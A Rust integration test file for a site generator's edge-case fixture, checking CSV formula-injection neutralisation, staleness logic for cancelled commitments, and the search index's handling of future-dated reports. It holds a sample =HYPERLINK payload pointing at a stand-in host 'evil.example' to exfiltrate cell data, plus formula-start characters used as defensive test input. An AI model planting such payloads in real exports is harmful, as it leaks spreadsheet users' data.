//! The edge fixture (`tests/fixtures/edge-site`), built with the real binary: the cases
//! the other fixtures lack, checked on what readers and data users get.
//!
//! - Free text that starts like a spreadsheet formula, in every text field that reaches
//!   a CSV table, indicator measures written as words among them: every CSV cell of a
//!   text column goes out neutralised (a leading `'`).
//! - A commitment whose every activity is cancelled, its last report long past the
//!   staleness window: cancelled, never "stale", on its page or in the plan's count.
//! - A progress report dated after as_of, with a note: not in the search index yet.

use std::collections::BTreeSet;
use std::fs;
use std::io::Read;
use std::path::{Path, PathBuf};
use std::process::Command;

use serde_json::Value;

fn fixture() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/edge-site")
}

/// The site's as_of: the fixture's dates are set around it.
const AS_OF: &str = "2025-06-15";

/// Builds the fixture with `shafaf build --as-of`; returns the folder (kept alive) and
/// the output.
fn build(as_of: &str) -> (tempfile::TempDir, PathBuf) {
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("public");
    let status = Command::new(env!("CARGO_BIN_EXE_shafaf"))
        .args(["build", "--quiet", "--root", fixture().to_str().unwrap(), "--out", out.to_str().unwrap(), "--as-of", as_of])
        .status()
        .expect("run shafaf");
    assert!(status.success(), "the edge fixture builds");
    (dir, out)
}

fn read(out: &Path, path: &str) -> String {
    fs::read_to_string(out.join(path)).unwrap_or_else(|e| panic!("{path}: {e}"))
}

fn page(out: &Path, path: &str) -> String {
    read(out, &format!("{path}index.html"))
}

/// A CSV file of the feeds: its header and rows.
fn csv_table(out: &Path, name: &str) -> (Vec<String>, Vec<Vec<String>>) {
    let bytes = fs::read(out.join("data/v1").join(name)).unwrap_or_else(|e| panic!("{name}: {e}"));
    let mut reader = csv::ReaderBuilder::new().from_reader(bytes.as_slice());
    let header = reader.headers().unwrap().iter().map(String::from).collect();
    let rows = reader.records().map(|r| r.unwrap().iter().map(String::from).collect()).collect();
    (header, rows)
}

/// The cells of one column, for the rows of one commitment.
fn column(table: &(Vec<String>, Vec<Vec<String>>), commitment: &str, name: &str) -> Vec<String> {
    let (header, rows) = table;
    let col = |n: &str| header.iter().position(|h| h == n).unwrap_or_else(|| panic!("no column {n}"));
    rows.iter().filter(|r| r[col("commitment")] == commitment).map(|r| r[col(name)].clone()).collect()
}

const HYPERLINK: &str = r#"=HYPERLINK("https://evil.example/?d="&A1,"Cliquez")"#;

/// Indicator measures written as words (unit `text`) are free text like any other: a
/// baseline, a target or a value that starts like a formula gets its `'` in the CSV
/// (and keeps its exact text in the JSON); numbers, even below zero, are left alone.
#[test]
fn text_measures_reach_the_csv_neutralised() {
    let (_dir, out) = build(AS_OF);
    let indicators = csv_table(&out, "indicators.csv");
    assert_eq!(column(&indicators, "formulas", "baseline_text"), [format!("'{HYPERLINK}"), String::new()], "baseline_text");
    assert_eq!(column(&indicators, "formulas", "target_text"), ["'+1 rang", ""], "target_text");
    assert_eq!(column(&indicators, "formulas", "baseline"), ["", "-5"], "a number is never touched");
    let values = csv_table(&out, "indicator_values.csv");
    assert_eq!(column(&values, "formulas", "value_text"), ["'-3 places", "'@SUM(A1:A9)", "'\tcible", "'\rligne", ""], "value_text");
    assert_eq!(column(&values, "formulas", "value"), ["", "", "", "", "-2.5"]);
    let json: Value = serde_json::from_str(&read(&out, "data/v1/plans/2024-2027/commitments/formulas.json")).unwrap();
    let indicator = &json["commitment"]["indicators"][0];
    assert_eq!((indicator["baseline"].as_str(), indicator["target"]["value"].as_str()), (Some(HYPERLINK), Some("+1 rang")));
}

/// The characters that make a spreadsheet run a cell as a formula (OWASP; the list
/// `src/export/csv.rs` neutralises).
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// String columns without a pattern or a list of values that still hold no free text:
/// what they can hold is checked on load and never starts like a formula.
const NOT_FREE_TEXT: [(&str, &str); 5] = [
    ("partners", "institution IDs"),
    ("ogp_values", "keywords from a fixed list"),
    ("cost_currency", "an ISO 4217 code such as MAD"),
    ("evidence_urls", "web addresses, which must start with http:// or https://"),
    ("url_", "the links to the site's own pages"),
];

/// Every column of every CSV table, judged by the type the data package declares for
/// it: no text cell starts like a formula, numbers parse (`-5` is a number, not a
/// formula), booleans are true or false. And the fixture is checked to carry formula-like
/// text in every free-text column, so a column added without it, or a cell written with
/// a call other than the neutralising one, fails here.
#[test]
fn no_text_cell_of_any_csv_table_starts_like_a_formula() {
    let (_dir, out) = build(AS_OF);
    let package: Value = serde_json::from_str(&read(&out, "data/v1/datapackage.json")).unwrap();
    let all = package["resources"].as_array().unwrap();
    let described: BTreeSet<&str> = all.iter().map(|r| r["path"].as_str().unwrap()).collect();
    // revisions.csv has rows only in a git repository whose commits precede as_of, which
    // this fixture is not: tests/revisions.rs checks its rows, and a unit test in
    // src/export/csv.rs its neutralised cells.
    let resources: Vec<&Value> = all.iter().filter(|r| r["path"] != "revisions.csv").collect();
    let written: BTreeSet<String> = fs::read_dir(out.join("data/v1"))
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|n| n.ends_with(".csv"))
        .collect();
    assert_eq!(written.iter().map(String::as_str).collect::<BTreeSet<_>>(), described, "the data package describes every CSV file");

    let mut problems = Vec::new();
    let mut free_text_columns = 0;
    let mut formula_starts_seen = BTreeSet::new();
    let mut negative_numbers = 0;
    for resource in resources {
        let path = resource["path"].as_str().unwrap();
        let (header, rows) = csv_table(&out, path);
        let fields = resource["schema"]["fields"].as_array().unwrap();
        assert_eq!(fields.iter().map(|f| f["name"].as_str().unwrap()).collect::<Vec<_>>(), header, "{path}: fields follow the header");
        assert!(!rows.is_empty(), "{path}: the fixture gives the table rows");
        for (i, field) in fields.iter().enumerate() {
            let name = field["name"].as_str().unwrap();
            let cells = rows.iter().map(|r| r[i].as_str()).filter(|c| !c.is_empty());
            match field["type"].as_str().unwrap() {
                "string" => {
                    for cell in cells.clone().filter(|c| c.starts_with(FORMULA_STARTS)) {
                        problems.push(format!("{path}, column {name}: {cell:?} would run as a formula"));
                    }
                    let constrained = ["pattern", "enum"].iter().any(|k| field["constraints"].get(k).is_some());
                    if constrained || NOT_FREE_TEXT.iter().any(|(column, _)| name.starts_with(column)) {
                        continue;
                    }
                    free_text_columns += 1;
                    // What the fixture put there, with or without its `'`.
                    let starts: Vec<char> = cells
                        .map(|c| c.strip_prefix('\'').unwrap_or(c))
                        .filter_map(|c| c.chars().next())
                        .filter(|c| FORMULA_STARTS.contains(c))
                        .collect();
                    if starts.is_empty() {
                        problems.push(format!("{path}, column {name}: the fixture puts no formula-like text there; add some"));
                    }
                    formula_starts_seen.extend(starts);
                }
                kind @ ("number" | "integer") => {
                    for cell in cells {
                        let parses = if kind == "integer" { cell.parse::<i64>().is_ok() } else { cell.parse::<f64>().is_ok() };
                        if !parses {
                            problems.push(format!("{path}, column {name}: {cell:?} is not of type {kind}"));
                        }
                        negative_numbers += usize::from(cell.starts_with('-'));
                    }
                }
                "boolean" => problems.extend(
                    cells.filter(|c| !["true", "false"].contains(c)).map(|c| format!("{path}, column {name}: {c:?} is not a boolean")),
                ),
                other => problems.push(format!("{path}, column {name}: a type this test does not know: {other}")),
            }
        }
    }
    assert!(problems.is_empty(), "{}", problems.join("\n"));
    // 13 texts, one column per language each (five of a commitment, two of an activity,
    // four of an indicator, a report's note, a replanning's reason), and the three
    // measure columns written as words.
    assert_eq!(free_text_columns, 13 * 2 + 3, "the free-text columns of the six tables");
    assert_eq!(formula_starts_seen, BTreeSet::from(FORMULA_STARTS), "the fixture starts texts with each of the six characters");
    assert!(negative_numbers > 0, "the fixture has numbers below zero, which rightly start with '-'");
}

/// An all-cancelled commitment is cancelled, not under way: however old its last report,
/// its page says nothing about reports being overdue and the plan does not count it
/// stale; the commitment under way without a recent report is the only stale one.
#[test]
fn an_all_cancelled_commitment_past_the_window_is_never_stale() {
    let (_dir, out) = build(AS_OF);
    let cancelled = page(&out, "fr/plans/2024-2027/commitments/all-cancelled/");
    assert!(cancelled.contains("class=\"badge s-cancelled\">Annulé<"), "the fixture's commitment is cancelled");
    assert!(cancelled.contains("Dernier rapport : 1er mars 2024"), "its last report is fifteen months old");
    for lang in ["fr", "ar"] {
        let html = page(&out, &format!("{lang}/plans/2024-2027/commitments/all-cancelled/"));
        assert!(!html.contains("<p class=\"stale\">"), "{lang}: the cancelled commitment's page calls it stale");
        let stale = page(&out, &format!("{lang}/plans/2024-2027/commitments/stale-work/"));
        assert!(stale.contains("<p class=\"stale\">"), "{lang}: the commitment under way without a recent report is stale");
    }
    assert!(page(&out, "fr/plans/2024-2027/commitments/stale-work/").contains("Aucun rapport depuis plus de 6 mois"));
    for path in ["fr/plans/2024-2027/", "fr/plans/2024-2027/report/", "fr/plans/2024-2027/by-status/", "fr/"] {
        assert!(
            page(&out, path).contains("<p class=\"stale\">Engagements sans rapport depuis plus de 6 mois : 1</p>"),
            "{path}: one stale"
        );
    }
    assert!(page(&out, "ar/plans/2024-2027/").contains("<p class=\"stale\">التزامات دون أي تقرير منذ أكثر من 6 أشهر: 1</p>"));
    let commitments = csv_table(&out, "commitments.csv");
    assert_eq!(column(&commitments, "all-cancelled", "stale"), ["false"]);
    assert_eq!(column(&commitments, "all-cancelled", "status"), ["cancelled"]);
    let plans: Value = serde_json::from_str(&read(&out, "data/v1/plans.json")).unwrap();
    assert_eq!(plans["plans"][0]["stale_commitments"], 1);
}

/// The text of every file of the search index, the compressed ones inflated.
fn search_index_text(out: &Path) -> String {
    let mut text = String::new();
    for lang in ["ar", "fr"] {
        for entry in walkdir::WalkDir::new(out.join(lang).join("search")) {
            let entry = entry.unwrap();
            let path = entry.path();
            match path.extension().and_then(|e| e.to_str()) {
                Some("bin") => {
                    let bytes = fs::read(path).unwrap();
                    flate2::read::ZlibDecoder::new(bytes.as_slice())
                        .read_to_string(&mut text)
                        .unwrap_or_else(|e| panic!("{}: {e}", path.display()));
                }
                Some("json") => text.push_str(&fs::read_to_string(path).unwrap()),
                _ => {}
            }
            text.push('\n');
        }
    }
    text
}

/// A report dated after as_of does not exist yet, its note neither: search finds the
/// note of the report in effect, and the later one only once as_of has reached it.
#[test]
fn report_notes_after_as_of_are_not_in_the_search_index() {
    let (_dir, out) = build(AS_OF);
    let index = search_index_text(&out);
    assert!(index.contains("wypmk"), "the note of the report in effect (March 2025) is searchable");
    assert!(!index.contains("xylqz"), "the note of the report of September 2025 is in the index as of {AS_OF}");
    let (_later_dir, later) = build("2025-10-01");
    assert!(search_index_text(&later).contains("xylqz"), "as of October 2025 the September note is searchable");
}
